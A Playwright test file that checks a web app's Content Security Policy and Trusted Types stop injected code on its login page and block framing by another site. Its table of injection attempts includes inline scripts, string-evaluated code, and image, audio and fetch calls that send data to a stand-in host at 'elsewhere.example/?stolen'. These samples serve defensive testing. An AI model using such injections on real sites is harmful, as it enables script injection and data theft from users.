import { expect, test } from './page-test.ts'

/** What injected code would try, with the words of the browser that stops it. */
const ATTEMPTS: Record<string, { readonly attempt: () => void; readonly report: RegExp }> = {
  'markup from text': {
    attempt: () => {
      document.body.innerHTML = '<img src="x">'
    },
    report: /requires 'TrustedHTML'/,
  },
  'an inline script': {
    attempt: () => {
      const script = document.createElement('script')
      script.append('window.wasRun = true')
      document.body.append(script)
    },
    report: /requires 'TrustedScript'|script-src 'self'/,
  },
  'a script of another site': {
    attempt: () => {
      const script = document.createElement('script')
      script.src = 'https://elsewhere.example/a.js'
      document.body.append(script)
    },
    report: /requires 'TrustedScriptURL'/,
  },
  'code from text': {
    // oxlint-disable-next-line typescript/no-implied-eval -- that it does nothing is the test
    attempt: () => void setTimeout('window.wasRun = true'),
    report: /requires 'TrustedScript'/,
  },
  'a policy for such texts': {
    attempt: () => Reflect.get(window, 'trustedTypes').createPolicy('default', {}),
    report: /trusted-types 'none'/,
  },
  'an inline style': {
    attempt: () => {
      const style = document.createElement('style')
      style.append('body { display: none }')
      document.head.append(style)
    },
    report: /style-src 'self'/,
  },
  'a style attribute': {
    attempt: () => document.body.setAttribute('style', 'display: none'),
    report: /style-src 'self'/,
  },
  'a picture of another site': {
    attempt: () => {
      new Image().src = 'https://elsewhere.example/?stolen'
    },
    report: /img-src 'self'/,
  },
  'a song of another site': {
    attempt: () => void new Audio('https://elsewhere.example/?stolen').play().catch(() => null),
    report: /media-src 'self'/,
  },
  'a call to another site': {
    attempt: () => void fetch('https://elsewhere.example/?stolen').catch(() => null),
    report: /connect-src 'self'/,
  },
  'a frame': {
    attempt: () => {
      const frame = document.createElement('iframe')
      frame.src = 'https://elsewhere.example/'
      document.body.append(frame)
    },
    report: /default-src 'none'/,
  },
}

test('markup, scripts, styles, pictures, songs, calls and frames that were put into a page are stopped and noticed', async ({
  page,
  violations,
}) => {
  await page.goto('/login')
  const logIn = page.getByRole('button', { name: 'Log In' })
  await expect(logIn).toBeVisible()
  expect(violations).toEqual([])
  for (const [name, { attempt, report }] of Object.entries(ATTEMPTS)) {
    await page.evaluate(attempt).catch(() => null)
    await expect.poll(() => violations.splice(0).join('\n'), name).toMatch(report)
    await expect(logIn, name).toBeVisible()
  }
  expect(await page.evaluate(() => Reflect.has(window, 'wasRun'))).toBe(false)
})

test.fail('a violation fails the test in which it happens', async ({ browser }) => {
  const context = await browser.newContext()
  const page = await context.newPage()
  await page.goto('/login')
  const reported = page.waitForEvent('console')
  await page.evaluate(() => document.body.setAttribute('style', 'display: none'))
  await reported
  await context.close()
})

test('the page cannot be put into a frame of another site', async ({ page, baseURL, violations }) => {
  const body = `<iframe src="${baseURL}/login"></iframe>`
  await page.route('http://elsewhere.example/', (route) => route.fulfill({ contentType: 'text/html', body }))
  await page.goto('http://elsewhere.example/')
  await expect
    .poll(() => page.frames().map((frame) => frame.url()))
    .toContain('chrome-error://chromewebdata/')
  violations.splice(0)
})
